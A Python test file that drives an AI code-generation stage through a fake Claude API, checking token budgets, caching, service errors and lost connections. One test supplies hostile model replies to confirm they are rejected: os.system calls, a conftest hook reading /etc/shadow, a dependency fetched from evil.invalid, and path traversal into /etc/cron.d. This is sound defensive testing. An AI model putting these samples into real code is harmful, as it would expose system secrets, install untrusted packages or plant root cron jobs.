"""The generate stage through the real SDK: budgets to the token, hostile replies, services that refuse."""

import json
from collections.abc import Callable, Mapping
from typing import Any

import pytest

from lsqm.adapters.claude import ClaudeTextModel
from lsqm.generate import GenerateOptions, GenerateOutcome, GeneratePorts, GeneratorChoice, generate
from lsqm.model.app import APP_FILES, App
from lsqm.ports.text_model import TextModelClosed
from tests.fakes.messages_api import KEY, Answer, MessagesApi
from tests.unit.generate.architectures import architecture
from tests.unit.generate.models import Listener, StillClock, answer

TOPIC = 'resource "aws_sns_topic" "t" {}\n'
Script = Callable[[Mapping[str, Any], int], Answer]


def run(script: Script, *, designs: int = 1, **options: Any) -> tuple[GenerateOutcome, list[App], MessagesApi]:
    """The stage on `designs` architectures; number N uses the service `sN` and all use sns."""
    kept: list[App] = []
    architectures = [
        architecture(TOPIC, key=f"{number:02x}", services=("sns", f"s{number}")) for number in range(designs)
    ]
    with MessagesApi(script) as api:
        model = ClaudeTextModel(api_key=KEY, base_url=api.url, max_retries=0)
        ports = GeneratePorts(clock=StillClock(), observer=Listener(), keep=kept.append, model=model)
        usual = {"generator": GeneratorChoice.CLAUDE, **options}
        try:
            outcome = generate(architectures, known={}, options=GenerateOptions(**usual), ports=ports)
        finally:
            model.close()
    return outcome, kept, api


@pytest.mark.parametrize("parallel", [1, 4])
def test_twenty_thousand_tokens_on_fifty_architectures(parallel):
    outcome, kept, api = run(
        lambda _body, _number: Answer(text=answer(), thinking_tokens=500),
        designs=50,
        token_budget=20_000,
        parallel=parallel,
    )
    assert api.billed_tokens == outcome.usage.total <= 20_000
    assert sum(app.record.usage.total for app in kept) == outcome.usage.total
    assert outcome.budget_exhausted
    assert 0 < len(kept) < 50
    assert len(outcome.not_done) == 50 - len(kept)
    assert [item.outcome for item in outcome.items] == ["written"] * len(kept) + ["not-done"] * len(outcome.not_done)


def test_the_system_prompt_is_written_to_the_cache_once_and_then_read():
    outcome, kept, _ = run(lambda _body, _number: Answer(text=answer()), designs=3, parallel=1)
    assert [app.record.usage.cache_creation > 0 for app in kept] == [True, False, False]
    assert [app.record.usage.cache_read > 0 for app in kept] == [False, True, True]
    assert outcome.cost_usd == pytest.approx(sum(app.record.cost_usd for app in kept))


@pytest.mark.parametrize(
    "reply",
    [
        "x" * 5_000_000,
        answer(test_app_py="import os\nos.system('id')\n"),
        answer(app_py="import socket\n"),
        answer(conftest_py="def pytest_sessionstart():\n    print(open('/etc/shadow').read())\n"),
        answer(requirements_txt="evil @ https://evil.invalid/evil-1.0-py3-none-any.whl\n"),
        json.dumps({**json.loads(answer()), "../../../etc/cron.d/x": "* * * * * root id"}),
        json.dumps({name.replace("app.py", "../app.py"): "" for name in APP_FILES}),
        answer(app_py="def f():\n    while True:\n        pass\n"),
        "I am sorry, but",
        "",
    ],
    ids=range(10),
)
def test_hostile_replies_are_never_saved_and_have_one_reason(reply):
    outcome, kept, api = run(lambda _body, _number: Answer(text=reply))
    assert kept == []
    assert outcome.items[0].reason
    assert outcome.usage.total == api.billed_tokens


@pytest.mark.parametrize("status", [401, 402, 403])
def test_a_refusing_service_is_asked_once_not_once_per_architecture(status):
    with pytest.raises(TextModelClosed) as caught:
        run(lambda _body, _number: Answer(status=status, message="no"), designs=9, parallel=1)
    assert caught.value.hint


def test_a_busy_service_skips_architectures_and_spends_nothing():
    outcome, kept, _ = run(
        lambda _body, number: Answer(status=529, retry_after="0.01") if number % 2 else Answer(text=answer()),
        designs=4,
        parallel=1,
    )
    assert [item.outcome for item in outcome.items] == ["written", "no-answer", "written", "no-answer"]
    assert outcome.usage.total == sum(app.record.usage.total for app in kept)


@pytest.mark.parametrize("lost", [Answer(text=answer(), cut="stream", break_after=300), Answer(cut="headers")])
def test_a_lost_connection_is_no_answer_for_that_app_and_its_tokens_are_counted(lost):
    outcome, kept, api = run(lambda _body, number: lost if number % 2 else Answer(text=answer()), designs=4, parallel=1)
    assert [item.outcome for item in outcome.items] == ["written", "no-answer", "written", "no-answer"]
    assert all("Claude: " in item.reason for item in outcome.items if item.outcome == "no-answer")
    assert len(kept) == 2
    assert outcome.usage.total == api.billed_tokens
